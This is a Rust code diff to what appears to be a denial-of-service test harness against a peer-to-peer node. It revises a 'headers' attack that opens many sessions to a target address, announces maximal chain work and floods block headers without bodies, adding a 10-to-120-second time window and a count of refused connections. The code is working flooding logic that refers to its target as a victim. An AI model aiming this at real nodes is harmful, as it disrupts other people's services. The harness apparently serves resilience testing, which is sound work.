@@ -2,6 +2,7 @@
 
 use std::{
     net::SocketAddr,
+    ops::RangeInclusive,
     sync::atomic::{AtomicU64, Ordering},
     time::{Duration, Instant},
 };
@@ -30,8 +31,8 @@ use crate::{
 };
 
 const MANY_HEADERS: u64 = 1_000_000;
-/// And for at least this long, however quick the machine is.
-const HEADERS_FOR: Duration = Duration::from_secs(10);
+/// For at least so long, however quick the machine is; and for at most so long, however many a victim refuses.
+const HEADERS_FOR: RangeInclusive<Duration> = Duration::from_secs(10)..=Duration::from_secs(120);
 const MANY_ADVERTS: u64 = 10_000_000;
 const SILENT_SOCKETS: usize = 2_000;
 /// How long an attack goes on that is not a number of things.
@@ -127,23 +128,29 @@ fn branch() -> Vec<Bytes> {
 
 /// Sessions that each announce the most work of all and, asked for the headers before it, send as many as are taken.
 async fn headers(p2p: SocketAddr) {
-    let (branch, sent, sessions) = (branch(), AtomicU64::new(0), AtomicU64::new(0));
+    let (branch, sent, sessions, refused) = (branch(), AtomicU64::new(0), AtomicU64::new(0), AtomicU64::new(0));
     println!("ready");
     let begin = Instant::now();
     let attack = |id: u8| {
-        let (branch, sent, sessions) = (&branch, &sent, &sessions);
+        let (branch, sent, sessions, refused) = (&branch, &sent, &sessions, &refused);
         async move {
-            while sent.load(Ordering::Relaxed) < MANY_HEADERS || begin.elapsed() < HEADERS_FOR {
-                if let Ok(mut session) = Session::open(p2p, id).await {
-                    sessions.fetch_add(1, Ordering::Relaxed);
-                    // It ends in one way or another, and comes again.
-                    let _ = send_headers(&mut session, branch, sent).await;
+            while begin.elapsed() < *HEADERS_FOR.start()
+                || sent.load(Ordering::Relaxed) < MANY_HEADERS && begin.elapsed() < *HEADERS_FOR.end()
+            {
+                match Session::open(p2p, id).await {
+                    Ok(mut session) => {
+                        sessions.fetch_add(1, Ordering::Relaxed);
+                        // It ends in one way or another, and comes again.
+                        let _ = send_headers(&mut session, branch, sent).await;
+                    }
+                    Err(_) => drop(refused.fetch_add(1, Ordering::Relaxed)),
                 }
             }
         }
     };
     join_all((1..=SESSIONS).map(attack)).await;
-    println!("{} headers without bodies in {} sessions", sent.into_inner(), sessions.into_inner());
+    let (sent, sessions, refused) = (sent.into_inner(), sessions.into_inner(), refused.into_inner());
+    println!("{sent} headers without bodies in {sessions} sessions, {refused} more refused");
 }
 
 async fn send_headers(session: &mut Session, branch: &[Bytes], sent: &AtomicU64) -> Result<(), Status> {
